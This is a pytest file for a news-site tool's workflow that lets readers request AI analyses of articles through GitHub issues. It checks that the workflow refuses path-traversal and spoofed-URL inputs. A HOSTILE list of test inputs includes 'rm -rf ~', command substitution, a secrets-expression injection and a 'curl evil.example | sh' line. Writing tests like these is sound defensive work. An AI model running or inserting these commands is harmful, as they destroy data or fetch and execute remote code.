"""Requesting an analysis (issue 14, design §10): the article page's link and the
request workflow's decision.

- The link: on the example site with `repository` set to a placeholder, and on a site
  with a Korean title; its prefilled fields read back exactly; none without
  `repository`, for opted-out articles, for locked and for fresh analyses.
- The decision: `request-check` run on GitHub `issues` event payloads shaped as GitHub
  documents them (tests/request_events/), against a copy of the example site, whose
  articles cover every state: missing (electric-ferry-trial), stale
  (rail-strike-review), opted out (obituary-agnes-morrow), locked (ai-triage-trial)
  and fresh (tidal-turbines-ferries).
- The form, the workflow and this code name the same fields and labels.
"""

from __future__ import annotations

import copy
import json
import re
import subprocess
from pathlib import Path
from urllib.parse import parse_qs, quote, urlsplit

import pytest
import yaml
from conftest import MINIMAL_CONFIG, REPO, article, write_files
from test_publish import copy_example, readme_section

from marginalia.request.form import (
    APPROVAL_LABEL,
    ARTICLE_PATH,
    ARTICLE_URL,
    FORM_FILE,
    REQUEST_LABEL,
    answers,
)

EVENTS = Path(__file__).parent / "request_events"
FORM = REPO / ".github" / "ISSUE_TEMPLATE" / FORM_FILE
REQUEST_WORKFLOW = REPO / ".github" / "workflows" / "request.yml"
PLACEHOLDER = "placeholder-owner/placeholder-news"
MISSING = "2025/03/electric-ferry-trial.md"
STALE = "2023/02/rail-strike-review.md"
OPTED_OUT = "2024/10/obituary-agnes-morrow.md"
LOCKED = "2023/12/ai-triage-trial.md"
FRESH = "2022/03/tidal-turbines-ferries.md"
LINK = re.compile(r'<p class="analysis-request"><a href="([^"]+)">([^<]+)</a>')


@pytest.fixture(scope="module")
def example(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return copy_example(tmp_path_factory.mktemp("example") / "site")


def page_of(root: Path, rel: str) -> str:
    """The built page of content/<rel> (the example's permalinks are /YYYY/MM/slug/)."""
    year, month, name = rel.split("/")
    return (root / "site" / year / month / name.removesuffix(".md") / "index.html").read_text()


def request_link(page: str) -> tuple[str, str] | None:
    """(href, text) of the page's request link, the href unescaped as a browser reads it."""
    found = LINK.findall(page)
    assert len(found) <= 1
    return (found[0][0].replace("&amp;", "&"), found[0][1]) if found else None


def prefilled(href: str) -> dict[str, str]:
    parts = urlsplit(href)
    fields = parse_qs(parts.query, strict_parsing=True)
    assert all(len(values) == 1 for values in fields.values())
    return {key: values[0] for key, values in fields.items()}


# -- the link on the article page -------------------------------------------------------


def test_the_example_links_missing_and_stale_analyses_to_the_prefilled_form(
    example: Path, run
) -> None:
    assert run("build", "--root", example, "--repository", PLACEHOLDER).status == 0
    href, text = request_link(page_of(example, MISSING)) or ("", "")
    assert text == "Request an analysis"
    assert href.startswith(f"https://github.com/{PLACEHOLDER}/issues/new?")
    assert prefilled(href) == {
        "template": FORM_FILE,
        "title": "Analysis request: Electric ferry begins trial crossings between São Brás "
        "and Santa Luzia",
        ARTICLE_PATH.id: MISSING,
        ARTICLE_URL.id: "https://example.github.io/marginalia/2025/03/electric-ferry-trial/",
    }
    # percent-encoded throughout: no '+' for a space (the form would show a plus sign),
    # no raw non-ASCII, and '&' only between fields
    query = urlsplit(href).query
    assert re.fullmatch(r"[A-Za-z0-9%._~=&-]+", query), query
    assert "S%C3%A3o%20Br%C3%A1s" in query
    href, text = request_link(page_of(example, STALE)) or ("", "")
    assert text == "Request a fresh analysis"
    assert prefilled(href)[ARTICLE_PATH.id] == STALE
    for rel in (OPTED_OUT, LOCKED, FRESH):
        assert request_link(page_of(example, rel)) is None, rel


def test_without_a_repository_no_page_offers_a_request(example: Path, run) -> None:
    assert run("build", "--root", example).status == 0
    pages = list((example / "site").rglob("*.html"))
    assert pages and not any("analysis-request" in p.read_text() for p in pages)


def test_a_korean_title_and_file_name_are_prefilled_exactly(site, run) -> None:
    title = "북한과 러시아, 새 조약 맺어"
    root = site(
        {
            "config.yaml": MINIMAL_CONFIG + f"repository: {PLACEHOLDER}\n",
            "content/2024/06/북러-조약.md": article(title=title, slug="treaty"),
        }
    )
    assert run("build", "--root", root).status == 0
    href, _ = request_link((root / "site/2024/06/treaty/index.html").read_text()) or ("", "")
    fields = prefilled(href)
    assert fields["title"] == "Analysis request: " + title
    assert fields[ARTICLE_PATH.id] == "2024/06/북러-조약.md"
    assert fields[ARTICLE_URL.id] == "https://example.org/2024/06/treaty/"
    assert f"title=Analysis%20request%3A%20{quote(title)}&" in href
    assert quote(title).startswith("%EB%B6%81%ED%95%9C")  # UTF-8, byte by byte


def test_the_link_follows_the_repository_and_the_analysis_on_incremental_builds(site, run) -> None:
    """The link is part of what the page's dependency key covers: a rebuild that only
    changes the repository, or locks the analysis, renders the page again."""
    root = site({"content/2024/06/x.md": article(title="X")})
    page = root / "site/2024/06/x/index.html"
    assert run("build", "--root", root, "--repository", "first/one").status == 0
    assert "github.com/first/one/issues/new" in page.read_text()
    assert run("build", "--root", root, "--repository", "second/two").status == 0
    assert "github.com/second/two/issues/new" in page.read_text()
    write_files(
        root,
        {
            "analyses/2024/06/x.md": (
                "---\narticle: 2024/06/x.md\nmodel: m\nprompt: analysis\n"
                f"prompt_sha256: {'0' * 64}\narticle_sha256: {'0' * 64}\nlocked: true\n---\nText.\n"
            )
        },
    )
    assert run("build", "--root", root, "--repository", "second/two").status == 0
    assert "analysis-request" not in page.read_text()  # stale, but locked


@pytest.mark.parametrize(
    "value", ["octocat", "octo/cat/news", "-octo/news", "octo/..", "octo/news repo", "a b/c"]
)
def test_a_repository_that_is_not_owner_slash_name_is_a_located_error(
    site, run, value: str
) -> None:
    root = site({"config.yaml": MINIMAL_CONFIG + f"repository: {json.dumps(value)}\n"})
    result = run("build", "--root", root)
    assert result.status == 1
    assert "config.yaml:3: repository: must be a GitHub repository as OWNER/NAME" in result.err
    result = run("build", "--root", site(), f"--repository={value}")
    assert result.status == 1 and "--repository: must be a GitHub repository" in result.err


# -- the form, the workflow and the code agree --------------------------------------------


def test_the_form_has_the_fields_and_label_the_code_reads() -> None:
    form = yaml.safe_load(FORM.read_text())
    fields = {item["id"]: item for item in form["body"] if "id" in item}
    for field in (ARTICLE_PATH, ARTICLE_URL):
        assert fields[field.id]["attributes"]["label"] == field.label
    assert fields[ARTICLE_PATH.id]["validations"]["required"] is True
    assert form["labels"] == [REQUEST_LABEL]
    flow = REQUEST_WORKFLOW.read_text()
    assert f"github.event.label.name == '{APPROVAL_LABEL}'" in flow
    assert f"labels={REQUEST_LABEL}&" in flow


def test_the_body_github_writes_from_the_form_reads_back() -> None:
    body = json.loads((EVENTS / "issues-labeled.json").read_text())["issue"]["body"]
    assert answers(body, ARTICLE_PATH) == [MISSING]
    assert answers("### Article file\r\n\r\n_No response_\r\n", ARTICLE_PATH) == [""]
    assert answers("no headings at all", ARTICLE_PATH) == []


# -- the decision on an approved request --------------------------------------------------


@pytest.fixture
def request_site(tmp_path: Path) -> Path:
    return copy_example(tmp_path / "site")


@pytest.fixture
def check(request_site: Path, tmp_path: Path, run):
    """check(event=..., issue=..., permission=..., requests=...) -> (outputs, comment,
    stdout): request-check run on JSON files as the workflow writes them. By default the
    fixtures' good request, its issue unchanged since the label, approved by a writer."""
    base = json.loads((EVENTS / "issues-labeled.json").read_text())

    def go(
        event: dict | None = None,
        issue: dict | None = None,
        permission: str | dict = "permission-write.json",
        requests: list | None = None,
    ) -> tuple[dict[str, str], str, str]:
        event = event or base
        files = tmp_path / "runner"
        files.mkdir(exist_ok=True)
        data = {
            "event.json": event,
            "issue.json": issue if issue is not None else event["issue"],
            "permission.json": permission
            if isinstance(permission, dict)
            else json.loads((EVENTS / permission).read_text()),
            "requests.json": requests
            if requests is not None
            else json.loads((EVENTS / "requests.json").read_text()),
        }
        for name, value in data.items():
            (files / name).write_text(json.dumps(value, ensure_ascii=False))
        output = files / "output"
        output.write_text("")
        result = run(
            "request-check",
            "--root",
            request_site,
            *("--event", files / "event.json", "--issue", files / "issue.json"),
            *("--permission", files / "permission.json"),
            *("--requests", files / "requests.json"),
            *("--comment", files / "comment.md", "--output", output),
        )
        assert result.status == 0, result.err
        lines = output.read_text().splitlines()
        assert [line.split("=", 1)[0] for line in lines] == ["action", "article"]
        outputs = dict(line.split("=", 1) for line in lines)
        return outputs, (files / "comment.md").read_text(), result.out

    go.base = base  # type: ignore[attr-defined]
    return go


def with_path(event: dict, path: str, **issue_changes) -> dict:
    """The event with another answer under "Article file" (and other issue fields)."""
    changed = copy.deepcopy(event)
    changed["issue"]["body"] = event["issue"]["body"].replace(MISSING, path, 1)
    changed["issue"].update(issue_changes)
    return changed


def test_a_good_request_runs_analyze_for_that_article(check) -> None:
    outputs, comment, out = check()
    assert outputs == {"action": "run", "article": f"content/{MISSING}"}
    assert f"`content/{MISSING}`" in comment and "pull request" in comment
    assert out.startswith(f"run: content/{MISSING}")


@pytest.mark.parametrize("given", [STALE, f"content/{STALE}"])
def test_a_stale_analysis_may_be_requested_afresh(check, given: str) -> None:
    outputs, _, _ = check(with_path(check.base, given), requests=[])
    assert outputs == {"action": "run", "article": f"content/{STALE}"}


def test_the_address_of_an_article_page_on_this_site_is_accepted(check) -> None:
    url = "https://example.github.io/marginalia/2025/03/electric-ferry-trial/"
    outputs, _, _ = check(with_path(check.base, url))
    assert outputs == {"action": "run", "article": f"content/{MISSING}"}


@pytest.mark.parametrize(
    ("given", "reason"),
    [
        ("../config.yaml", "not under content/"),
        ("content/../config.yaml", "not under content/"),
        ("2024/../../config.yaml", "not under content/"),
        ("/etc/passwd", "not under content/"),
        (f"/{MISSING}", "not under content/"),
        ("C:/Windows/win.ini", "not under content/"),
        ("..\\config.yaml", "not under content/"),
        ("https://evil.example/2025/03/electric-ferry-trial/", "not the page of an article"),
        (
            "https://example.github.io.evil.example/marginalia/2025/03/electric-ferry-trial/",
            "not the page of an article",
        ),
        ("file:///etc/passwd", "not the page of an article"),
        # malformed: no parser reads them (an IPv6 host never closed, a port no number)
        ("http://[::1/2025/03/electric-ferry-trial/", "not the page of an article"),
        (
            "https://example.github.io:443x/marginalia/2025/03/electric-ferry-trial/",
            "not the page of an article",
        ),
        (
            "https://example.github.io:99999/marginalia/2025/03/electric-ferry-trial/",
            "not the page of an article",
        ),
        ("javascript:alert(1)", "not the page of an article"),
        ("2099/01/no-such-article.md", "no article at the file"),
        ("pages/about.md", "no article at the file"),
        ("2025/03", "no article at the file"),
        ("", "names no article"),
    ],
)
def test_anything_but_an_article_under_content_is_refused(check, given: str, reason: str) -> None:
    outputs, comment, _ = check(with_path(check.base, given or "_No response_"))
    assert outputs == {"action": "refuse", "article": ""}
    assert reason in comment
    if given:
        assert given not in comment  # the reader's text is never quoted back


@pytest.mark.parametrize(
    ("path", "reason"),
    [
        (OPTED_OUT, "chosen not to analyze"),
        (LOCKED, "reviewed by an editor"),
        (FRESH, "up to date"),
    ],
)
def test_opted_out_locked_and_fresh_articles_are_refused(check, path: str, reason: str) -> None:
    outputs, comment, _ = check(with_path(check.base, path), requests=[])
    assert outputs == {"action": "refuse", "article": ""}
    assert reason in comment and f"`content/{path}`" in comment


@pytest.mark.parametrize(
    ("permission", "action"),
    [
        ("permission-write.json", "run"),
        ("permission-maintain.json", "run"),
        ("permission-triage.json", "refuse"),  # may label issues, may not approve
        ("permission-read.json", "refuse"),
        ({}, "refuse"),  # the API did not know the account
    ],
)
def test_only_write_maintain_or_admin_approves(check, permission, action: str) -> None:
    event = copy.deepcopy(check.base)
    if isinstance(permission, str):
        event["sender"]["login"] = json.loads((EVENTS / permission).read_text())["user"]["login"]
    # the author_association in the payload is not what is trusted
    event["issue"]["author_association"] = "OWNER"
    outputs, comment, _ = check(event, permission=permission)
    assert outputs["action"] == action
    if action == "refuse":
        assert "write, maintain or admin permission" in comment


def test_another_label_or_an_approval_taken_back_is_ignored(check) -> None:
    event = copy.deepcopy(check.base)
    event["label"] = event["issue"]["labels"][0]  # analysis-request itself
    assert check(event)[:2] == ({"action": "ignore", "article": ""}, "")
    now = copy.deepcopy(check.base["issue"])
    now["labels"] = now["labels"][:1]  # the approval label was removed before the run
    assert check(issue=now)[:2] == ({"action": "ignore", "article": ""}, "")


def test_a_request_closed_before_the_run_is_refused(check) -> None:
    now = dict(check.base["issue"], state="closed", state_reason="not_planned")
    outputs, comment, _ = check(issue=now)
    assert outputs["action"] == "refuse" and "closed" in comment


def test_the_issue_is_read_again_at_run_time_and_an_edit_after_approval_is_refused(
    check,
) -> None:
    """The event holds the body that was approved; the issue read at run time holds the
    body as it is now. A request edited to name another article is not run."""
    now = with_path(check.base, STALE)["issue"]
    outputs, comment, _ = check(issue=now)
    assert outputs == {"action": "refuse", "article": ""}
    assert "changed after the request was approved" in comment
    # an edit that leaves the article alone (the note) does not matter
    now = copy.deepcopy(check.base["issue"])
    now["body"] = now["body"].replace("_No response_", "Please look at the costs.")
    now["title"] = "Analysis request (edited)"
    assert check(issue=now)[0]["action"] == "run"


def test_one_request_per_article_at_a_time(check) -> None:
    """requests.json holds #4 for the stale article and a pull request (#5). A second
    request for #4's article is answered with a link to #4; the first one runs."""
    event = with_path(check.base, STALE)
    outputs, comment, _ = check(event)
    assert outputs["action"] == "refuse"
    assert comment.startswith(f"#4 already requests an analysis of `content/{STALE}`")
    listing = json.loads((EVENTS / "requests.json").read_text())
    later = copy.deepcopy(listing)
    later[0][2]["number"] = 9  # the other request came after this one
    assert check(event, requests=later)[0]["action"] == "run"
    assert check(requests=listing)[0]["action"] == "run"  # #4 is for another article


def test_a_body_naming_two_articles_is_refused(check) -> None:
    event = copy.deepcopy(check.base)
    event["issue"]["body"] += f"\n\n### Article file\n\n{STALE}\n"
    outputs, comment, _ = check(event)
    assert outputs["action"] == "refuse" and "more than one article" in comment


HOSTILE = [
    "`rm -rf ~`",
    "$(touch /tmp/marginalia-pwned)",
    "${{ secrets.OPENAI_API_KEY }}",
    "x\naction=run\narticle=config.yaml",
    '"; curl evil.example | sh; "',
    "@everyone ![x](https://evil.example/t.png)",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_titles_and_notes_change_nothing(check, hostile: str) -> None:
    event = copy.deepcopy(check.base)
    event["issue"]["title"] = hostile
    event["issue"]["body"] = event["issue"]["body"].replace("_No response_", hostile)
    outputs, comment, _ = check(event)
    assert outputs == {"action": "run", "article": f"content/{MISSING}"}
    assert not any(part in comment for part in hostile.split("\n") if part.strip())


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_article_answers_are_refused_and_never_echoed(check, hostile: str) -> None:
    for given in (hostile, f"{MISSING} {hostile}", f"{MISSING}\n{hostile}"):
        outputs, comment, out = check(with_path(check.base, given))
        assert outputs == {"action": "refuse", "article": ""}, given
        for part in hostile.split("\n"):
            if part.strip():
                assert part not in comment and part not in out
    assert not Path("/tmp/marginalia-pwned").exists()


def test_input_files_that_are_not_json_are_named(check, tmp_path: Path, run) -> None:
    check()  # writes the files
    files = tmp_path / "runner"
    (files / "issue.json").write_text("<html>rate limited</html>")
    result = run(
        "request-check",
        "--root",
        tmp_path / "site",
        *("--event", files / "event.json", "--issue", files / "issue.json"),
        *("--permission", files / "permission.json", "--requests", files / "requests.json"),
        *("--comment", files / "comment.md", "--output", files / "output"),
    )
    assert result.status == 1
    assert f"{files / 'issue.json'}: cannot read it as JSON" in result.err


# -- init and the README ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("remote", "expected"),
    [
        ("https://github.com/someone/my-news.git", "someone/my-news"),
        ("git@github.com:someone/my-news.git", "someone/my-news"),
        ("ssh://git@github.com/someone/my-news", "someone/my-news"),
        ("https://gitlab.com/someone/my-news.git", None),
        ("https://[github.com/someone/my-news.git", None),  # malformed: no URL at all
        ("git@[github.com:someone/my-news.git", None),
        (None, None),
    ],
)
def test_init_names_the_github_repository_of_the_origin_remote(
    tmp_path: Path, run, remote: str | None, expected: str | None
) -> None:
    """A repository cloned empty from GitHub (no commit yet) is the common case."""
    folder = tmp_path / "clone"
    folder.mkdir()
    subprocess.run(["git", "init", "-q"], cwd=folder, check=True)
    if remote:
        subprocess.run(["git", "remote", "add", "origin", remote], cwd=folder, check=True)
    assert run("init", folder).status == 0
    config = yaml.safe_load((folder / "config.yaml").read_text())
    assert config.get("repository") == expected
    if expected is None:  # a commented line says what to write
        assert "# repository: OWNER/NAME" in (folder / "config.yaml").read_text()
    for rel in (".github/workflows/request.yml", f".github/ISSUE_TEMPLATE/{FORM_FILE}"):
        assert (folder / rel).read_bytes() == (REPO / rel).read_bytes()
    assert "analysis-approved" in (folder / "README.md").read_text()
    assert run("build", "--root", folder).status == 0
    (page,) = (folder / "site").glob("*/*/welcome/index.html")
    assert ("analysis-request" in page.read_text()) == bool(expected)


def test_readme_explains_requests_end_to_end() -> None:
    section = readme_section("Requesting an analysis")
    for needed in (
        "Request an analysis",
        "Request a fresh analysis",
        REQUEST_LABEL,
        APPROVAL_LABEL,
        "write, maintain or admin permission",
        "OPENAI_API_KEY",
        "Allow GitHub Actions to create and approve pull requests",
        "Closes #",
        "analysis-request/<issue number>",
        "**Threat model.**",
        "`env:`",
        "../config.yaml",
    ):
        assert needed in section, needed
    text = (REPO / "README.md").read_text()
    assert "| `repository` |" in text and "| `request-check" in text
